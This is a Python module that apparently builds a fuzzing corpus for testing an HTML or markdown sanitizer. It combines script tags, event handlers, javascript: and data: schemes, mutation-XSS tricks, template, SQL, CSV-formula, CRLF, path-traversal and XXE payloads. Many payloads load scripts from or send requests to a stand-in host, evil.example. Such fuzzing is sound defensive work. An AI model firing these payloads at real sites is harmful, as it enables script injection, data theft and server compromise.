"""Hostile texts: every family of tricks times its variations, always the same ones in one order.

In a text, FIRE stands for code that tells a browser's driver that it ran, HOST for an address
elsewhere, and NUM for the number by which both are known again.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import chain, product


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One hostile text and the family of tricks that it is of."""

    family: str
    text: str

    def armed(self, number: int) -> str:
        """The text as it is written into a sink that is known by a number."""
        text = self.text.replace("FIRE", f"fire({number})").replace("NUM", str(number))
        return text.replace("HOST", f"//evil.example/{number}")


SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "JAVASCRIPT:",
        " javascript:",
        "\tjavascript:",
        "java\tscript:",
    ),
    *("java\nscript:", "java\rscript:", "javascript\t:", "\x01javascript:", "\x0bjavascript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;"),
    *("javascript&#58;", "javascript&#x3A;", "java&Tab;script:", "java&NewLine;script:"),
    *(
        "javascript://a.vn/%0a",
        "javascript:/*--*/",
        "%6Aavascript:",
        "javascript%3A",
        "jav\u00adascript:",
    ),
    *("\u200bjavascript:", "ｊavascript:", "javaſcript:", "javascript：", "vbscript:", "VBScript:"),
    *("livescript:", "mocha:", "feed:javascript:", "view-source:javascript:", "jar:javascript:"),
    *("data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "DATA:text/html,<script>"),
    *("data:image/svg+xml,<svg onload=", "data:,", "data:text/javascript,", "blob:", "filesystem:"),
    *("//evil.example/", "/\\evil.example/", "\\\\evil.example\\", "https:/\\evil.example/"),
    *("///evil.example/", "https://a@evil.example/", "file:///etc/passwd?", "ftp://evil.example/"),
)
PLACES = (
    *("{}FIRE", "[x]({}FIRE)", "[x](<{}FIRE>)", "![x]({}FIRE)", "<{}FIRE>", "[x]: {}FIRE"),
    *("[x]({}FIRE 'y')", "<a href={}FIRE>x</a>", '<a href="{}FIRE">x</a>', "<iframe src={}FIRE>"),
    *("<form action={}FIRE><input type=submit>", "<object data={}FIRE>", "<embed src={}FIRE>"),
    *("<base href={}FIRE>", "<svg><a xlink:href={}FIRE><text>x</text></a></svg>"),
    *("<meta http-equiv=refresh content='0;url={}FIRE'>", "<button formaction={}FIRE>x</button>"),
)

KERNELS = (
    *("<script>FIRE</script>", "<img src=x onerror=FIRE>", "<svg onload=FIRE>"),
    *("<svg/onload=FIRE>", "<iframe srcdoc='<script>parent.FIRE</script>'>"),
    *("<script src=HOST></script>", "<img src=HOST>", "<link rel=stylesheet href=HOST>"),
    "<details open ontoggle=FIRE>x</details>",
)
CLOSERS = (
    *(
        "</title>",
        "</script>",
        "</SCRIPT >",
        "</style>",
        "</textarea>",
        "</noscript>",
        "</template>",
    ),
    *("-->", "--!>", "]]>", "?>", "%>", "}}", "*/", '"', "'", "`", '">', "'>", '"/>', '"></a>'),
    *("</a>", "</p>", "</svg>", "</math>", "</head><body>", "</option></select>", "</xmp>"),
    *(
        "</iframe>",
        "</noembed>",
        "</h1>",
        "</td></tr></table>",
        "</time>",
        "\\",
        '\\"',
        "\\'",
        "&quot;>",
    ),
    *("&#34;>", "&#x22;>", "%22>", "<!--", "<![CDATA[", "<?xml ", "</script/x>", "</script\n>"),
)

ELEMENTS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "object data=x"),
    *("embed src=x", "input autofocus", "select autofocus", "textarea autofocus", "marquee"),
    *("details open", "style", "link rel=stylesheet href=x", "video><source", "svg><animate"),
    *("p tabindex=1", "a href=#", "button autofocus", "math", "form", "table background=x", "x"),
    *("frameset", "image src=x", "track src=x", "dialog open", "meter", "isindex type=image src=x"),
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onbegin",
    "onstart",
)
SPELLINGS = (
    *(" {}=FIRE", ' {}="FIRE"', " {}='FIRE'", "/{}=FIRE", "\t{}\t=\tFIRE", "\n{}\n=\nFIRE"),
    *(" {}=&#102;ire(NUM)", ' {}=FIRE//"', " {}=`FIRE`", " {} =FIRE", " x={}={}=FIRE"),
)

SCRIPTS = (
    *(
        "<script>FIRE</script>",
        "<SCRIPT>FIRE</SCRIPT>",
        "<script\n>FIRE</script\n>",
        "<script/x>FIRE</script>",
    ),
    *(
        "<script >FIRE</script >",
        "<scr<script>ipt>FIRE</scr</script>ipt>",
        "<script>FIRE//",
        "<script>FIRE<!--",
    ),
    *("<script type=module>FIRE</script>", "<script src=HOST></script>", "<script src=HOST>"),
    *("<svg><script>FIRE</script></svg>", "<svg><script>&#102;ire(NUM)</script></svg>"),
    *(
        "<svg><script href=data:,FIRE />",
        "<math><script>FIRE</script></math>",
        "<<script>FIRE//<</script>",
    ),
    *(
        "<script>fire`NUM`</script>",
        "<script>top['fire'](NUM)</script>",
        "<script>setTimeout('FIRE')</script>",
    ),
    *("<script>new Image().src='HOST'</script>", "<script>location='HOST'</script>"),
    *(
        "<script>fetch('HOST')</script>",
        "<script>import('HOST')</script>",
        "<script>alert(NUM)</script>",
    ),
    *(
        "<script>document.write('<script src=HOST><\\/script>')</script>",
        "<script async src=HOST></script>",
    ),
    *(
        "<script x='>'>FIRE</script>",
        "<script\x0c>FIRE</script>",
        "<script\x00>FIRE</script>",
        "<\x00script>FIRE</script>",
    ),
    *(
        "＜script＞FIRE＜/script＞",
        "‹script›FIRE‹/script›",
        "<ſcript>FIRE</ſcript>",
        "<scrıpt>FIRE</scrıpt>",
    ),
    *(
        "<scr\u200bipt>FIRE</scr\u200bipt>",
        "\ufeff<script>FIRE</script>",
        "<\u202escript>FIRE</script>",
    ),
    *(
        "+ADw-script+AD4-FIRE+ADw-/script+AD4-",
        "%3Cscript%3EFIRE%3C/script%3E",
        "\\u003cscript\\u003eFIRE",
    ),
    *(
        "\\x3cscript\\x3eFIRE",
        "<script language=vbscript>FIRE",
        "<script event=onload for=window>FIRE</script>",
    ),
    '<script type="application/ld+json">{}</script><script>FIRE</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["https:HOST"]}]}</script>',
)
IN_CODE = (
    *(
        '";FIRE//',
        "';FIRE//",
        "`;FIRE//",
        '\\";FIRE//',
        "\\';FIRE//",
        "${FIRE}",
        "'-FIRE-'",
        '"-FIRE-"',
    ),
    *(
        "\u2028FIRE",
        "\u2029FIRE",
        "}FIRE{",
        ")FIRE(",
        "</script><!--<script>FIRE",
        "<!--<script>FIRE//-->",
    ),
    *(
        "*/FIRE/*",
        "//\nFIRE",
        "]];FIRE//",
        '"}</script><script>FIRE</script>',
        "__proto__",
        "constructor",
    ),
)
TEMPLATES = (
    *(
        "{{7*7}}",
        "{{ FIRE }}",
        "{% include 'base.html' %}",
        "{% raw %}",
        "{# x #}",
        "${7*7}",
        "#{7*7}",
    ),
    *(
        "<%= 7*7 %>",
        "{{constructor.constructor('FIRE')()}}",
        "[[${7*7}]]",
        "{{''.__class__.__mro__}}",
    ),
    *("{{ view }}", "{{ config }}", "{%", "{{", "}}", "%}", "{{ '<script>FIRE</script>'|safe }}"),
    *(
        "{% set x = '<script>FIRE</script>' %}{{ x|trusted }}",
        "{{ self._TemplateReference__context }}",
    ),
    *(
        "%(x)s",
        "%s",
        "{0.__class__}",
        "{count}",
        "{name!r}",
        "$x",
        "{",
        "}",
        "@import",
        "<?php FIRE ?>",
    ),
)
ENTITIES = (
    *(
        "&lt;script&gt;FIRE&lt;/script&gt;",
        "&#60;script&#62;FIRE",
        "&#x3c;script&#x3e;FIRE",
        "&LT;script&GT;FIRE",
    ),
    *(
        "&#0000060script>FIRE",
        "&#x000003cscript>FIRE",
        "&lt script &gt FIRE",
        "&amp;lt;script&amp;gt;FIRE",
    ),
    *(
        "&amp;amp;lt;img src=x onerror=FIRE&amp;amp;gt;",
        "&ltimg src=x onerror=FIRE&gt",
        "&#0;<script>FIRE</script>",
    ),
    *(
        "&#128;&#xD800;&#x110000;<svg onload=FIRE>",
        "&nvlt;script>FIRE",
        "&quot; onerror=FIRE x=&quot;",
    ),
    *("&apos;&grave;&lbrace;&lpar;FIRE", "&#60img src=x onerror=FIRE&#62"),
)
STYLES = (
    *(
        "<style>@import 'HOST';</style>",
        "<style>*{background:url(HOST)}</style>",
        "<p style=background:url(HOST)>x",
    ),
    *(
        '<p style="width:expression(FIRE)">',
        "<p style='behavior:url(HOST)'>",
        "<link rel=stylesheet href=HOST>",
    ),
    *(
        "<link rel=preload as=image href=HOST>",
        "<link rel=prefetch href=HOST>",
        "<link rel=icon href=HOST>",
    ),
    *(
        "<style>@font-face{font-family:x;src:url(HOST)}</style>",
        "}*{background:url(HOST)}",
        "';}</style><svg onload=FIRE>",
    ),
    *(
        "<xss style=animation-name:x onanimationstart=FIRE>",
        "<p style=position:fixed;inset:0>x",
        "url(HOST)",
        "@import url(HOST);",
    ),
    *(
        "<svg><style>*{background:url(HOST)}</style></svg>",
        "{: style=background:url(HOST) }",
        "<meta name=referrer content=unsafe-url>",
    ),
)
MUTATIONS = (
    "<svg></p><style><a id='</style><img src=x onerror=FIRE>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=FIRE>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=FIRE>",
    "<noscript><p title='</noscript><img src=x onerror=FIRE>'>",
    "<title><p title='</title><img src=x onerror=FIRE>'>",
    "<textarea><p title='</textarea><img src=x onerror=FIRE>'>",
    "<xmp><p title='</xmp><img src=x onerror=FIRE>'>",
    "<noembed><p title='</noembed><img src=x onerror=FIRE>'>",
    "<template><s><template><s><img src=x onerror=FIRE>x</template></s></template>",
    "<svg><desc><noscript></desc></svg><img src=x onerror=FIRE>",
    "<svg><foreignObject><style><img src=x onerror=FIRE></style></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=FIRE></style></annotation-xml></math>",
    "<select><style><img src=x onerror=FIRE></style></select>",
    "<table><td><svg onload=FIRE></table>",
    "<a href='x'<img src=x onerror=FIRE>",
    "<img src='x' alt='`onerror=FIRE`'>",
    "<p id='x'y=<img src=x onerror=FIRE>",
    "<!--><img src=x onerror=FIRE>-->",
    "<!---><img src=x onerror=FIRE>-->",
    "<!-- --!><img src=x onerror=FIRE>",
    "<![CDATA[><img src=x onerror=FIRE>]]>",
    "<?x ><img src=x onerror=FIRE>?>",
    "</x ><img src=x onerror=FIRE>",
    "<b <script>FIRE</script>0",
    "<a b='<script>FIRE</script>'>",
    "<svg><set attributeName=href to=javascript:FIRE><a>x</a></svg>",
    "<svg><animate attributeName=onload to=FIRE>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=FIRE/>#x'/></svg>",
    "<img name=getElementById><img id=fire>",
    "<form id=document><input name=cookie>",
    "<a id=location href='javascript:FIRE'>",
    "<div><div><div><div><svg><style></style><img src=x onerror=FIRE></svg>",
)
LINES = (
    "[a](x \"onerror=FIRE\")", "![a](x\"onerror=FIRE)", "![a](x 'y\" onerror=\"FIRE')",
    '[a]("onmouseover=FIRE)', '<https://a.vn/"onmouseover=FIRE>', "<a@a.vn\"onclick=FIRE>",
    "[![a](b)](javascript:FIRE)", "![![a](javascript:FIRE)](b)", "[a][javascript:FIRE]",
    "{: onclick=FIRE }", '{: onclick="FIRE" }', "{: .x onclick=FIRE #y }", '{: #x"onclick="FIRE" }',
    '{: title="\\" onmouseover=FIRE" }', "{: href=javascript:FIRE }", "{: src=HOST }", "{: srcdoc=x }",
    '} onclick=FIRE {', '#x" onclick="FIRE', ".x' onclick='FIRE", "onclick=FIRE", "style=x", "x=y\" z=\"",
    "``` \"><img src=x onerror=FIRE>", "~~~ {onclick=FIRE}", "```js onload=FIRE", "    <script>FIRE</script>",
    "[^<img src=x onerror=FIRE>]", "[^x]: <script>FIRE</script>", "| <script>FIRE</script> |", "> <svg onload=FIRE>",
    "# <img src=x onerror=FIRE>", "- <svg onload=FIRE>", "1. <script>FIRE</script>", "*<img src=x onerror=FIRE>*",
    "**[x](javascript:FIRE)**", "`<script>FIRE</script>`", "``<svg onload=FIRE>``", "\\<script>FIRE\\</script>",
    "<script>\n\nFIRE\n\n</script>", "!!! note \"<img src=x onerror=FIRE>\"", "[[m:<img src=x onerror=FIRE>]]",
    "ref:0", "ref:1\" onclick=FIRE", "\x02wzxhzdk:0\x03", "\x02amp\x03lt;script", "&\x02;", "~~~\n<script>FIRE</script>",
    "[x](https://a.vn/\"onclick=FIRE)", "[x](https://a.vn/<script>FIRE</script>)", "https://a.vn/<svg onload=FIRE>",
    "[a](mailto:a@a.vn?subject=<script>FIRE</script>)", "[x](tel:1\"onclick=FIRE)", "-->\n[x]: javascript:FIRE",
    "\x1b[31mFIRE\x1b[0m", "\x1b]8;;HOST\x07x", "a\r\nLocation: HOST", "a%0d%0aLocation: HOST", "../../../etc/passwd",
    "..%2f..%2fetc", "/etc/passwd", "C:\\windows", "=cmd|'/c calc'!A1", "@SUM(1+1)", "+1+1", "-1+1",
    "'; DROP TABLE metrics; --", "\" OR 1=1 --", "<loc>HOST</loc>", "<!ENTITY x SYSTEM 'HOST'>&x;",
    "<!DOCTYPE x [<!ENTITY x 'y'>]>", "<xi:include href='HOST'/>", "<x xmlns='http://www.w3.org/1999/xhtml'><script>FIRE</script></x>",
)  # fmt: skip


def payloads() -> tuple[Payload, ...]:
    """All hostile texts, each once."""
    return tuple({one.text: one for one in chain.from_iterable(_families())}.values())


def _families() -> Iterator[Iterator[Payload]]:
    for family, texts in (
        ("scripts", SCRIPTS),
        ("code", IN_CODE),
        ("templates", TEMPLATES),
        ("entities", ENTITIES),
        ("styles", STYLES),
        ("mutations", MUTATIONS),
        ("lines", LINES),
    ):
        yield (Payload(family=family, text=text) for text in texts)
    yield (
        Payload(family="schemes", text=place.format(scheme))
        for scheme, place in product(SCHEMES, PLACES)
    )
    yield (
        Payload(family="contexts", text=closer + kernel)
        for closer, kernel in product(CLOSERS, KERNELS)
    )
    yield (
        Payload(family="handlers", text=f"<{element}{SPELLINGS[n % 11].replace('{}', event)}>")
        for n, (element, event) in enumerate(product(ELEMENTS, EVENTS))
    )
    yield (
        Payload(family="attributes", text=f"{quote}{space}{event}=FIRE{end}")
        for quote, space, event, end in product(
            ('"', "'", "`", "", "&quot;", '\\"'),
            (" ", "/", "\t", "\n"),
            ("onmouseover", "onfocus autofocus tabindex=1 onclick", "style=x onload"),
            (" x=", ' x="', "//", ">"),
        )
    )
    yield (
        Payload(family="nested", text=f"{opening}{kernel}{closing}")
        for (opening, closing), kernel in product(
            (
                *(("*", "*"), ("**_", "_**"), ("[", "](#x)"), ("![", "](x.jpg)"), ("> - ", "")),
                *(("<b>", "</b>"), ("`", "`"), ("((", "))"), ("“", "”"), ("[^1]: ", "")),
                *(("<svg>", "</svg>"), ("<math>", "</math>"), ("<p title='", "'>"), ("\\", "\\")),
            ),
            KERNELS,
        )
    )
